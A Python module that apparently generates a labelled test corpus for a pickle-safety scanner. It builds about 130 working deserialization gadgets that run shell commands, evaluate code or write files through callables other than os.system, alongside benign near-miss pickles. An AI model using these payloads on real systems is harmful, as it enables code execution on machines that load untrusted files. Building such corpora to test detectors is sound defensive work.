"""Techniques that run code through callables other than os.system: one line each, name and call.

Each is one entry of a table, so that a reader sees the whole surface at once. `verify.py` proves which of them fire.
"""

from .assembler import (
    BUILD, CODE, COMMAND, EMPTY_TUPLE, MARKER, NEWOBJ, NONE, POP, SYSTEM, Case, Raw, attr, call, name, pickle4, text, value,
)

EXPRESSION = "__import__('os').system(%r)" % COMMAND
ARGV = ["touch", MARKER]
PARTIAL = call(name("functools", "partial"), SYSTEM, COMMAND)
MODULE_OS = name("pathlib", "os")
COMPILED = call(name("builtins", "compile"), CODE, "x", "exec")


def new(module, attribute, *arguments):
    return Raw(bytes(name(module, attribute)) + value(tuple(arguments)) + NEWOBJ)


def method(owner, attribute, *arguments):
    return call(attr(owner, attribute), *arguments)


def dotted(module, path, *arguments):
    """An unbound method through a dotted name of protocol 4."""
    return call(name(module, path), *arguments)


FRAME = call(name("pandas", "DataFrame"))
ARRAY = call(name("numpy", "arange"), 3)

RUNNERS = {
    "builtins-eval": call(name("builtins", "eval"), EXPRESSION),
    "builtins-exec": call(name("builtins", "exec"), CODE),
    "builtins-exec-compiled": call(name("builtins", "exec"), COMPILED),
    "builtins-map-list": call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, [COMMAND])),
    "builtins-map-eval-tuple": call(name("builtins", "tuple"), call(name("builtins", "map"), name("builtins", "eval"), [EXPRESSION])),
    "os-popen": call(name("os", "popen"), COMMAND),
    "os-posix-spawn": call(name("os", "posix_spawn"), "/bin/sh", ["sh", "-c", COMMAND], {}),
    "os-spawnlp": call(name("os", "spawnlp"), 0, "touch", "touch", MARKER),
    "os-execvp": call(name("os", "execvp"), "touch", ARGV),
    "os-mkdir": call(name("os", "mkdir"), MARKER),
    "subprocess-popen": call(name("subprocess", "Popen"), ARGV),
    "subprocess-run": call(name("subprocess", "run"), ARGV),
    "subprocess-call": call(name("subprocess", "call"), ARGV),
    "subprocess-check-output": call(name("subprocess", "check_output"), ARGV),
    "subprocess-getoutput": call(name("subprocess", "getoutput"), COMMAND),
    "subprocess-obj": Raw(b"(" + bytes(name("subprocess", "Popen")) + value(ARGV) + b"o"),
    "pty-spawn": call(name("pty", "spawn"), ARGV),
    "asyncio-subprocess": call(name("asyncio", "run"), call(name("asyncio.subprocess", "create_subprocess_shell"), COMMAND)),
    "multiprocessing-process": method(
        call(name("multiprocessing.context", "ForkProcess"), None, SYSTEM, None, (COMMAND,)), "start"),
    "runpy-run-code": call(name("runpy", "_run_code"), COMPILED, {}),
    "code-interpreter": method(call(name("code", "InteractiveInterpreter")), "runsource", CODE),
    "codeop-compile": call(name("builtins", "exec"), call(call(name("codeop", "Compile")), CODE, "x", "exec")),
    "timeit-timeit": call(name("timeit", "timeit"), CODE, "pass", name("time", "perf_counter"), 1),
    "timeit-repeat": call(name("timeit", "repeat"), CODE, "pass", name("time", "perf_counter"), 1, 1),
    "timeit-main": call(name("timeit", "main"), ["-n", "1", "-r", "1", CODE]),
    "cprofile-run": call(name("cProfile", "run"), CODE),
    "cprofile-runctx": call(name("cProfile", "runctx"), CODE, {}, {}),
    "profile-run": call(name("profile", "run"), CODE),
    "pdb-run": method(call(name("bdb", "Bdb")), "runctx", CODE, {}, {}),
    "trace-run": method(call(name("trace", "Trace"), 0, 0), "run", CODE),
    "doctest-debug-script": call(
        name("doctest", "run_docstring_examples"), call(name("builtins", "str"), ">>> " + CODE), {}),
    "pydoc-pipepager": call(name("pydoc", "pipepager"), "", COMMAND),
    "pydoc-tempfilepager": call(name("pydoc", "tempfilepager"), "", COMMAND + ";true"),
    "pydoc-locate": call(call(name("pydoc", "locate"), "os.system"), COMMAND),
    "pkgutil-resolve-name": call(call(name("pkgutil", "resolve_name"), "os:system"), COMMAND),
    "importlib-import-module": method(call(name("importlib", "import_module"), "os"), "system", COMMAND),
    "import-builtin": method(call(name("builtins", "__import__"), "os"), "system", COMMAND),
    "webbrowser-generic": method(call(name("webbrowser", "GenericBrowser"), ARGV), "open", "x"),
    "distutils-spawn": call(name("distutils.spawn", "spawn"), ARGV),
    "distutils-write-file": call(name("distutils.file_util", "write_file"), MARKER, ["x"]),
    "setuptools-write-file": call(name("setuptools._distutils.file_util", "write_file"), MARKER, ["x"]),
    "pip-main": call(name("pip", "main"), ["download", "--log", MARKER, "./missing-package"]),
    "pip-internal-main": call(name("pip._internal.cli.main", "main"), ["download", "--log", MARKER, "./missing-package"]),
    "pip-call-subprocess": call(
        name("pip._internal.utils.misc", "subprocess.call"), ARGV),
    "functools-partial": call(PARTIAL),
    "functools-reduce": call(
        call(name("functools", "reduce"), name("builtins", "getattr"), ["system"], MODULE_OS), COMMAND),
    "functools-singledispatch": call(call(name("functools", "singledispatch"), SYSTEM), COMMAND),
    "operator-methodcaller": call(call(name("operator", "methodcaller"), "system", COMMAND), MODULE_OS),
    "operator-attrgetter": call(call(call(name("operator", "attrgetter"), "system"), MODULE_OS), COMMAND),
    "operator-attrgetter-dotted": call(call(call(name("operator", "attrgetter"), "path.os.system"), MODULE_OS), COMMAND),
    "operator-call": call(name("operator", "call"), SYSTEM, COMMAND),
    "operator-itemgetter": call(call(call(name("operator", "itemgetter"), "system"), name("os", "__dict__")), COMMAND),
    "itertools-starmap": call(name("builtins", "list"), call(name("itertools", "starmap"), SYSTEM, [(COMMAND,)])),
    "itertools-accumulate": call(
        name("collections", "deque"), call(name("builtins", "map"), SYSTEM, [COMMAND])),
    "itertools-takewhile": call(name("builtins", "list"), call(name("itertools", "takewhile"), SYSTEM, [COMMAND])),
    "filter-list": call(name("builtins", "list"), call(name("builtins", "filter"), SYSTEM, [COMMAND])),
    "defaultdict-factory": call(name("operator", "getitem"), call(name("collections", "defaultdict"), PARTIAL), "x"),
    "iter-sentinel": call(name("builtins", "next"), call(name("builtins", "iter"), PARTIAL, 5)),
    "threading-thread-run": method(call(name("threading", "Thread"), None, SYSTEM, None, (COMMAND,)), "run"),
    "threading-timer": method(call(name("threading", "Timer"), 0, SYSTEM, [COMMAND]), "run"),
    "weakref-finalize": call(call(name("weakref", "finalize"), call(name("collections", "OrderedDict")), SYSTEM, COMMAND)),
    "atexit-register": call(name("atexit", "register"), SYSTEM, COMMAND),
    "contextlib-callback": method(
        call(name("contextlib", "ExitStack")), "callback", SYSTEM, COMMAND),
    "sched-run": method(call(name("sched", "scheduler")), "enter", 0, 1, SYSTEM, (COMMAND,)),
    "typing-forwardref": call(name("typing", "_eval_type"), call(name("typing", "ForwardRef"), EXPRESSION), {}, {}),
    "types-function": call(call(name("types", "FunctionType"), COMPILED, {"__builtins__": name("builtins", "__dict__")})),
    "ctypes-cdll": method(call(name("ctypes", "CDLL"), None), "system", COMMAND.encode()),
    "uuid-popen": call(name("uuid", "os.system"), COMMAND),
    "osx-support-read-output": call(name("_osx_support", "_read_output"), COMMAND),
    "aix-support": call(name("_aix_support", "_read_cmd_output"), COMMAND),
    "idlelib-runcode": call(
        name("idlelib.calltip", "get_entity"), EXPRESSION),
    "idlelib-autocomplete": dotted("idlelib.autocomplete", "AutoComplete.get_entity", None, EXPRESSION),
    "test-script-helper": call(name("test.support.script_helper", "assert_python_ok"), "-c", CODE),
    "unittest-mock-call": method(call(name("unittest.mock", "_importer"), "os"), "system", COMMAND),
    "logging-dictconfig": call(name("logging.config", "dictConfig"), {"version": 1, "handlers": {
        "h": {"()": "os.system", "command": COMMAND}}, "root": {"handlers": ["h"]}}),
    "string-formatter": call(
        attr(call(name("operator", "getitem"), call(name("builtins", "vars"), MODULE_OS), "system"), "__call__"), COMMAND),
}

WRITERS = {
    "builtins-open": call(name("builtins", "open"), MARKER, "w"),
    "io-open": call(name("io", "open"), MARKER, "w"),
    "io-fileio": call(name("io", "FileIO"), MARKER, "w"),
    "private-io-open": call(name("_io", "open"), MARKER, "w"),
    "pyio-open": call(name("_pyio", "open"), MARKER, "w"),
    "codecs-open": call(name("codecs", "open"), MARKER, "w"),
    "pathlib-touch": method(call(name("pathlib", "Path"), MARKER), "touch"),
    "pathlib-touch-dotted": dotted("pathlib", "Path.touch", call(name("pathlib", "PosixPath"), MARKER)),
    "pathlib-mkdir-dotted": dotted("pathlib", "Path.mkdir", call(name("pathlib", "PosixPath"), MARKER)),
    "pathlib-open-dotted": dotted("pathlib", "Path.open", call(name("pathlib", "PosixPath"), MARKER), "w"),
    "shutil-copy": call(name("shutil", "copy"), "/etc/hostname", MARKER),
    "zipfile-write": call(name("zipfile", "ZipFile"), MARKER, "w"),
    "tarfile-write": call(name("tarfile", "open"), MARKER, "w"),
    "sqlite-connect": call(name("sqlite3", "connect"), MARKER),
    "dbm-dumb": call(name("dbm.dumb", "open"), "fired", "n"),
    "gzip-open": call(name("gzip", "open"), MARKER, "w"),
    "bz2-file": call(name("bz2", "BZ2File"), MARKER, "w"),
    "lzma-file": call(name("lzma", "LZMAFile"), MARKER, "w"),
    "logging-filehandler": call(name("logging", "FileHandler"), MARKER),
    "tempfile-mkdtemp": call(name("tempfile", "mkdtemp"), "", "fired", "."),
    "urlretrieve-file": call(name("urllib.request", "urlretrieve"), "file:///etc/hostname", MARKER),
    "numpy-save": call(name("numpy", "savetxt"), MARKER, [1]),
    "numpy-tofile-dotted": dotted("numpy", "ndarray.tofile", ARRAY, MARKER),
    "numpy-memmap": call(name("numpy", "memmap"), MARKER, "uint8", "w+", 0, (3,)),
    "numpy-tofile-getattr": method(ARRAY, "tofile", MARKER),
    "numpy-f2py-eval": call(name("numpy.f2py.crackfortran", "myeval"), EXPRESSION, {"__builtins__": name("builtins", "__dict__")}),
    "numpy-f2py-getlincoef": call(name("numpy.f2py.crackfortran", "getlincoef"), EXPRESSION, {}),
    "numpy-runstring": call(name("numpy.testing._private.utils", "runstring"), CODE, {}),
    "numpy-load-nested": call(name("numpy", "load"), call(name("io", "BytesIO"), b"\x80\x04" + bytes(call(SYSTEM, COMMAND)) + b"."),
                              None, True),
    "pandas-query": dotted("pandas", "DataFrame.query", FRAME, f"@pd.io.common.os.system('{COMMAND}')"),
    "pandas-eval-method": method(FRAME, "eval", f"@pd.io.common.os.system('{COMMAND}')"),
    "pandas-eval": call(name("pandas", "eval"), f"@pd.io.common.os.system('{COMMAND}')"),
    "pandas-to-csv-dotted": dotted("pandas", "DataFrame.to_csv", FRAME, MARKER),
    "pandas-to-csv-private": dotted("pandas.core.frame", "DataFrame.to_csv", FRAME, MARKER),
    "pandas-to-pickle-getattr": method(FRAME, "to_pickle", MARKER),
    "pandas-series-apply": method(call(name("pandas", "Series"), [COMMAND]), "apply", SYSTEM),
    "pandas-read-pickle": call(name("pandas", "read_pickle"), call(name("io", "BytesIO"), b"\x80\x04" + bytes(call(SYSTEM, COMMAND)) + b".")),
    "scipy-savemat": call(name("scipy.io", "savemat"), MARKER, {}),
    "scipy-wavfile": call(name("scipy.io.wavfile", "write"), MARKER, 8000, ARRAY),
    "sklearn-dump-svmlight": call(name("sklearn.datasets", "dump_svmlight_file"), [[1]], [1], MARKER),
    "joblib-dump": call(name("joblib", "dump"), 1, MARKER),
    "joblib-parallel": call(call(name("joblib", "Parallel")), [call(call(name("joblib", "delayed"), SYSTEM), COMMAND)]),
    "joblib-memory": call(name("joblib.memory", "Memory"), "fired"),
    "array-tofile": method(call(name("array", "array"), "b", b"x"), "tofile", call(name("io", "FileIO"), MARKER, "w")),
    "mmap-anonymous-os-open": call(name("os", "open"), MARKER, 65),
    "compileall": call(name("zipapp", "create_archive"), ".", MARKER, None, "a:b"),
    "functools-partial-open": call(call(name("functools", "partial"), name("builtins", "open"), MARKER), "w"),
    "class-made-with-type": method(
        call(call(name("builtins", "type"), "T", (), {"go": name("builtins", "eval")})), "go", EXPRESSION),
    "setattr-builtin": Raw(bytes(call(name("builtins", "setattr"), name("json", "JSONDecoder"), "go", SYSTEM)) + POP
                           + bytes(call(name("json", "JSONDecoder.go"), COMMAND))),
    "setstate-on-module": Raw(bytes(name("json", "decoder")) + value({"go": SYSTEM}) + BUILD + POP
                              + bytes(call(name("json.decoder", "go"), COMMAND))),
}

NEAR = {
    "functools-partial": pickle4(call(name("functools", "partial"), name("builtins", "int"), "7")),
    "operator-methodcaller": pickle4(call(name("operator", "methodcaller"), "strip")),
    "operator-attrgetter": pickle4(call(name("operator", "attrgetter"), "shape")),
    "operator-itemgetter": pickle4(call(name("operator", "itemgetter"), 0)),
    "defaultdict-factory": pickle4(call(name("collections", "defaultdict"), name("builtins", "list"))),
    "pathlib-touch": pickle4(call(name("pathlib", "PosixPath"), "models", MARKER)),
    "numpy-tofile-getattr": pickle4(call(name("numpy", "dtype"), "f8", False, True)),
    "pandas-query": pickle4(value({"query": "a > 1", "code": "pd.DataFrame().query('@pd.io')"})),
    "builtins-eval": pickle4(value(["eval", "exec", EXPRESSION])),
    "io-open": pickle4(call(name("_io", "BytesIO"), b"abc")),
    "uuid-popen": pickle4(call(name("uuid", "UUID"), "12345678123456781234567812345678")),
    "builtins-map-list": pickle4(call(name("builtins", "frozenset"), [1, 2])),
    "itertools-starmap": pickle4(call(name("itertools", "count"), 3)),
    "typing-forwardref": pickle4(call(name("fractions", "Fraction"), "3/4")),
    "class-made-with-type": pickle4(call(name("builtins", "type"), None)),
    "array-tofile": pickle4(call(name("array", "array"), "b", [1, 2])),
    "weakref-finalize": pickle4(call(name("datetime", "date"), 2026, 11, 23)),
    "subprocess-popen": pickle4(value({"command": ARGV, "shell": COMMAND})),
    "string-formatter": pickle4(call(name("decimal", "Decimal"), "1.5")),
    "logging-dictconfig": pickle4(value({"version": 1, "handlers": {"h": {"()": "os.system"}}})),
}


def cases():
    for label, body in {**RUNNERS, **WRITERS}.items():
        yield Case(f"gadget.{label}", pickle4(body), "malicious")
    for label, data in NEAR.items():
        yield Case(f"gadget.{label}.near", data, "near_miss")
